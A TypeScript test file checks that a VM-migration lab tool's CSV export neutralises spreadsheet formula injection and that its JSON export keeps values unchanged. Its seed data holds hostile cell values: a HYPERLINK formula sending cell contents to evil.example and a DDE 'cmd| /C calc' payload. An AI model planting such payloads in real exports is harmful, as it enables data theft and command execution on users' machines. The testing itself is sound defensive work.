import { parse } from 'csv-parse/sync'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { Core } from '../src/main/core'
import { RunWriter } from '../src/main/store/run-writer'
import { tempCore } from './helpers'

let core: Core
let dispose: () => Promise<void>
beforeEach(() => ({ core, dispose } = tempCore()))
afterEach(() => dispose())

/** Two finished runs written the way the experiment runner writes them, one with hostile text everywhere. */
async function seed(): Promise<{ hostile: number; plain: number }> {
  const lab = await core.handlers['labs.create']({ name: 'csv lab', description: '', hypervisor: 'qemu' })
  const w = new RunWriter(core.services.db)
  const hostile = w.create({
    labId: lab.id,
    jobId: null,
    vm: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    strategy: '+precopy',
    workload: 'custom:@SUM(1+1)*cmd|\' /C calc\'!A0',
    params: { sharedMemoryDir: '-/dev/shm', note: '\t=1+1', cr: '\r=2+2', maxBandwidthMiBs: -5, plain: 'fine' },
    environment: {},
  })
  w.finish(hostile, 'failed', { qemu_downtime_ms: -3.2, total_ms: 120.5 }, { code: '=cmd', message: 'x' })
  const plain = w.create({ labId: lab.id, jobId: null, vm: 'guest', strategy: 'precopy', workload: 'idle', params: { maxBandwidthMiBs: 1024 }, environment: {} })
  w.finish(plain, 'succeeded', { qemu_downtime_ms: 12, total_ms: 900 })
  return { hostile, plain }
}

const rowsOf = (csv: string) => parse(csv, { columns: true }) as Record<string, string>[]

describe('runs export with real rows', () => {
  it('CSV: text that a spreadsheet would run as a formula gets a leading quote', async () => {
    const { hostile } = await seed()
    const out = await core.handlers['runs.export']({ format: 'csv' })
    const row = rowsOf(out.content).find((r) => r.id === String(hostile))!
    expect(row.vm).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"click")`)
    expect(row.strategy).toBe("'+precopy")
    // custom: prefixes the command, so the cell itself is safe as it is.
    expect(row.workload).toBe("custom:@SUM(1+1)*cmd|' /C calc'!A0")
    expect(row['param.sharedMemoryDir']).toBe("'-/dev/shm")
    expect(row['param.note']).toBe("'\t=1+1")
    expect(row['param.cr']).toBe("'\r=2+2")
    expect(row['param.plain']).toBe('fine')
    expect(row.error_code).toBe("'=cmd")
    // No cell of the file starts with a formula character.
    for (const r of rowsOf(out.content)) for (const [k, v] of Object.entries(r)) if (!/^-?\d/.test(v)) expect(v, k).not.toMatch(/^[=+\-@\t\r]/)
  })

  it('CSV: numbers stay numbers, negative ones included', async () => {
    const { hostile, plain } = await seed()
    const rows = rowsOf((await core.handlers['runs.export']({ format: 'csv' })).content)
    const h = rows.find((r) => r.id === String(hostile))!
    expect(h.qemu_downtime_ms).toBe('-3.2')
    expect(h.total_ms).toBe('120.5')
    expect(h['param.maxBandwidthMiBs']).toBe('-5')
    const p = rows.find((r) => r.id === String(plain))!
    expect(p).toMatchObject({ vm: 'guest', strategy: 'precopy', workload: 'idle', status: 'succeeded', qemu_downtime_ms: '12', total_ms: '900', 'param.maxBandwidthMiBs': '1024', error_code: '' })
  })

  it('JSON keeps every value exactly as stored (it is data, not a spreadsheet)', async () => {
    await seed()
    type Run = { vm: string; metrics: Record<string, number> }
    // A list of runs, or a document holding them under `runs`.
    const doc = JSON.parse((await core.handlers['runs.export']({ format: 'json' })).content) as Run[] | { runs: Run[] }
    const h = (Array.isArray(doc) ? doc : doc.runs).find((r) => r.vm.includes('HYPERLINK'))!
    expect(h.vm).toBe('=HYPERLINK("http://evil.example/?"&A1,"click")')
    expect(h.metrics.qemu_downtime_ms).toBe(-3.2)
  })
})
